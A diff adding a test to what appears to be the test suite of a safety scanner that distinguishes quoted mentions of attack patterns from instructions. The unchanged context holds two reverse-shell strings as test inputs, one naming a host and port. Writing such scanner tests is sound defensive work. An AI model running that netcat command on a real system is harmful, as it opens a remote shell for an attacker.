@@ -548,3 +548,12 @@ def test_hidden_text_in_other_languages_blocks_only_when_aimed_at_the_model(
 def test_a_reverse_shell_signature_that_names_no_host_is_a_pattern() -> None:
     assert not blocking(scan("EDR rule: flag processes matching 'nc -e /bin/sh' (reverse shell)."))
     assert blocking(scan("EDR rule: run 'nc -e /bin/sh 198.51.100.4 4444' (reverse shell)."))
+
+
+def test_every_id_named_as_a_mention_is_a_row() -> None:
+    # The ids whose quoted examples are mentions are named by hand: a renamed row would
+    # silently drop out of the set.
+    from hermem.safety.context import _MENTION_IDS
+    from hermem.safety.scanner import PATTERNS
+
+    assert not _MENTION_IDS - {row.id for row in PATTERNS}
